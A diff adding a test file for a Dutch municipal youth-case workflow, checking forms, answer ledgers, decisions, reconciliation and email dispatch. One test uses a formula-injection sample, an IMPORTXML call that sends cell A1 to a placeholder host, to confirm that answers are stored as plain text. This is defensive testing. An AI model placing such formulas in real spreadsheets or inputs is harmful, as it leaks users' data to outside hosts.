@@ -1,0 +1,146 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { snapshotForm } from '../../src/local/apps-script/forms';
+import { formModelOf } from '../../src/local/apps-script/forms-model';
+import { snapshotSpreadsheet } from '../../src/local/apps-script/spreadsheet';
+import { openCase, openRegister, UserError } from '../../src/workflow/context';
+import { recordDecision } from '../../src/workflow/decide';
+import { dispatchAll } from '../../src/workflow/dispatcher';
+import { addPersons } from '../../src/workflow/persons';
+import { reconcileCase } from '../../src/workflow/reconcile';
+import { ANSWERS, DECISIONS, FORMS } from '../../src/workflow/records';
+import { readTable } from '../../src/workspace/tables';
+import type { Played } from './helpers';
+import { PERSONS, play, shortScenario } from './helpers';
+
+let p: Played;
+
+beforeAll(() => {
+  p = play(shortScenario());
+});
+afterAll(() => p.local.dispose());
+
+function handle() {
+  return openCase(openRegister(), p.result.caseHandle.row.code);
+}
+
+describe('een korte casus: signalen, 2A niet problematisch', () => {
+  it('opent een casus met een code, een map, een casusspreadsheet en een integraal beeld zonder namen', () => {
+    const h = handle();
+    expect(h.row.code).toBe('JGA-2026-001');
+    const names = [...p.local.rt.drive.values()].map((e) => e.name);
+    expect(names).toContain('JGA-2026-001 casusspreadsheet');
+    expect(names).toContain('JGA-2026-001 integraal beeld');
+    for (const n of names) for (const person of PERSONS) expect(n).not.toContain(person.naam);
+  });
+
+  it('maakt per stap één formulier per deelnemende partner, gepubliceerd, zonder samenvatting en met alleen de eigen vragen', () => {
+    const forms = readTable(handle().ss, FORMS);
+    expect(forms.map((f) => f.formKey)).toEqual([
+      '1#1#politie',
+      '1#1#jongerenwerk',
+      '1#1#boa',
+      '2A#1#politie',
+      '2A#1#jongerenwerk',
+      '2A#1#boa',
+    ]);
+    const politie = snapshotForm(p.local.rt, String(forms[0]!.formId));
+    const boa = snapshotForm(p.local.rt, String(forms[2]!.formId));
+    expect(politie.title).toBe('JGA-2026-001 · Stap 1 · Politie Basisteam Testdorp');
+    expect(politie.description).toContain('uiterlijk');
+    const model = formModelOf(p.local.rt, String(forms[0]!.formId));
+    expect(model.publishingSummary).toBe(false);
+    expect(model.allowResponseEdits).toBe(true);
+    // Every form is closed once its gate was decided.
+    expect(model.acceptingResponses).toBe(false);
+    const titles = (s: typeof politie) => s.items.map((i) => i.title);
+    expect(titles(politie).some((t) => /meldingen/i.test(t))).toBe(true);
+    expect(titles(boa)).not.toEqual(titles(politie));
+  });
+
+  it('slaat dubbele inzendingen als twee inzendingen op, een bewerking als nieuwe versie en negeert een lege inzending', () => {
+    const ledger = readTable(handle().ss, ANSWERS);
+    const politie = ledger.filter((r) => r.formKey === '1#1#politie');
+    expect(new Set(politie.map((r) => r.responseId)).size).toBe(2);
+    const boa = ledger.filter((r) => r.formKey === '1#1#boa');
+    expect(new Set(boa.map((r) => r.version))).toEqual(new Set([1, 2]));
+    expect(boa.filter((r) => r.version === 2 && r.questionId === '1.functie').map((r) => r.value)).toEqual([
+      'jeugdboa',
+    ]);
+    expect(ledger.filter((r) => r.formKey === '1#1#jongerenwerk')).toEqual([]);
+  });
+
+  it('bewaart elk antwoord als tekst: geen formule, geen getal', () => {
+    for (const id of [handle().row.spreadsheetId, p.result.register.ss.getId()]) {
+      const snap = snapshotSpreadsheet(p.local.rt, id);
+      for (const s of snap.sheets) for (const row of s.formulas) for (const f of row) expect(f).toBe('');
+    }
+    const ledger = readTable(handle().ss, ANSWERS);
+    const values = ledger.map((r) => r.value);
+    expect(values).toContain('=IMPORTXML("https://x.example/?"&A1,"//a")');
+    expect(values).toContain('+31 6 12345678');
+  });
+
+  it('2A niet problematisch sluit de casus met een lichte route en zonder namenlijst', () => {
+    const h = handle();
+    expect(h.row.status).toBe('gesloten');
+    expect(h.row.namesId).toBe('');
+    const d = readTable(h.ss, DECISIONS).at(-1)!;
+    expect(d.outcome).toBe('niet_problematisch');
+    expect(d.route).toBe('lichte_interventie');
+    expect(() => addPersons(h, [{ naam: 'Iemand' }])).toThrow(UserError);
+    expect(() => addPersons(h, [{ naam: 'Iemand' }])).toThrow(/pas na het besluit in stap 2A/);
+  });
+
+  it('weigert een besluit dat de huidige toestand niet toelaat, en verandert dan niets', () => {
+    const h = handle();
+    const before = readTable(h.ss, DECISIONS).length;
+    expect(() =>
+      recordDecision(
+        h,
+        {
+          step: '3',
+          round: 1,
+          outcome: 'gereed',
+          motivation: 'x',
+          decidedBy: 'procesregisseur',
+          date: '2026-03-02',
+        },
+        'test@gemeente.example',
+      ),
+    ).toThrow(/gesloten/);
+    expect(readTable(h.ss, DECISIONS).length).toBe(before);
+  });
+
+  it('reconcile is idempotent: twee keer draaien, of met omgekeerde volgorde van inzendingen, verandert niets', () => {
+    const h = handle();
+    const ledger = readTable(h.ss, ANSWERS);
+    for (const f of readTable(h.ss, FORMS)) formModelOf(p.local.rt, String(f.formId)).responses.reverse();
+    const r1 = reconcileCase(h, { includeClosed: true });
+    const r2 = reconcileCase(h, { includeClosed: true });
+    expect(r1.changed).toBe(false);
+    expect(r2.changed).toBe(false);
+    expect(readTable(h.ss, ANSWERS)).toEqual(ledger);
+  });
+
+  it('een nieuwe dispatcher-run verstuurt geen enkele mail opnieuw', () => {
+    const before = p.local.rt.mailbox.length;
+    p.local.rt.beginExecution();
+    dispatchAll(openRegister());
+    p.local.rt.endExecution();
+    expect(p.local.rt.mailbox.length).toBe(before);
+  });
+
+  it('mailt per partner één uitnodiging per stap en herinnert alleen wie niet antwoordde', () => {
+    const mails = p.local.rt.mailbox;
+    const invites = mails.filter((m) => m.subject.startsWith('Uitvraag'));
+    expect(invites.length).toBe(6);
+    const reminders = mails.filter((m) => m.subject.startsWith('Herinnering'));
+    // Step 1: only jongerenwerk (a ghost) did not answer; step 2A nobody answered.
+    const step1 = reminders.filter((m) => m.subject.includes('stap 1 '));
+    expect(step1.map((m) => m.to[0])).toEqual(['team@jongerenwerk.example', 'team@jongerenwerk.example']);
+    for (const m of mails) {
+      expect(m.subject).toContain('JGA-2026-001');
+      for (const person of PERSONS) expect(`${m.subject}\n${m.body}`).not.toContain(person.naam);
+    }
+  });
+});
